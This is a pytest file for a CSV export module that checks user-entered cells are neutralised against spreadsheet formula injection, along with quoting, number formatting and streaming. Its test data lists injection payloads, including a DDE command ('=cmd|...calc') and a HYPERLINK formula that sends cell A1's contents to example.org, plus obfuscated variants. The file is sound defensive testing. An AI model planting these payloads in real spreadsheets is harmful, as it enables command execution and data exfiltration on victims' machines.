"""Spreadsheets: what others wrote must never run in them, and must still be readable."""

import csv
import io
from collections.abc import Sequence
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.exports.batches import ROWS_PER_BATCH
from storage.exports.columns import Kind, columns
from storage.exports.spreadsheet import chunks, inert

STARTS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "a;=1+1",
    "a\n=1+1",
    "a\t@A1",
    "%0A-3+3",
]
UTC = ZoneInfo("UTC")


def written(cells: Sequence[str]) -> list[list[str]]:
    """Write cells one below the other, and read them as a spreadsheet does."""
    text = "".join(chunks(columns(note=Kind.TEXT), [{"note": cell} for cell in cells], UTC))
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def runs(cell: str) -> bool:
    """Say whether a spreadsheet might run the cell, wherever another locale splits it."""
    hidden = "\u200b\ufeff "
    return any(
        part.lstrip(hidden)[:1] in set("=+-@＝＋－＠")
        for part in cell.replace("\t", ";").split(";")
        if part.strip(hidden)
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_becomes_text(formula: str) -> None:
    """A reference that a buyer typed into a checkout must not run on finance's machine."""
    [[head], [cell]] = written([formula])

    assert head == "note"
    assert not any(runs(line) for line in cell.splitlines())
    assert cell.replace("'", "") == formula.replace("'", "")


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0") | st.sampled_from(STARTS + ";,\"' ")))
def test_no_cell_begins_a_formula(text: str) -> None:
    """Whatever people write: the first sign of a cell decides whether it runs."""
    cell = inert(text)

    assert not cell.startswith(tuple(STARTS))
    assert cell.replace("'", "") == text.replace("'", "")


@given(st.lists(st.text('abc,;"\r\n\té ', min_size=1), max_size=5))
def test_what_is_no_formula_is_read_back_as_it_was(cells: list[str]) -> None:
    """RFC 4180: commas, quotes and line breaks belong to the cell."""
    assert written(cells)[1:] == [[inert(cell)] for cell in cells]


def test_numbers_that_we_format_are_left_alone() -> None:
    """A negative amount is a number, not a formula."""
    shown = columns(net=Kind.MONEY, currency=Kind.TEXT, count=Kind.COUNT)
    pieces = chunks(shown, [{"net": -1250, "currency": "usd", "count": -3}], UTC)

    assert "".join(pieces) == "net,currency,count\r\n-12.50,usd,-3\r\n"


def test_long_answer_is_written_piece_by_piece() -> None:
    """However long it is, little of it is in memory."""
    taken: list[int] = []

    def endless() -> object:
        number = 0
        while True:
            taken.append(number)
            yield {"count": number}
            number += 1

    pieces = chunks(columns(count=Kind.COUNT), endless(), UTC)  # type: ignore[arg-type]
    head, lines = next(pieces), next(pieces).splitlines()

    assert head == "count\r\n"
    assert (len(lines), len(taken)) == (ROWS_PER_BATCH, ROWS_PER_BATCH)
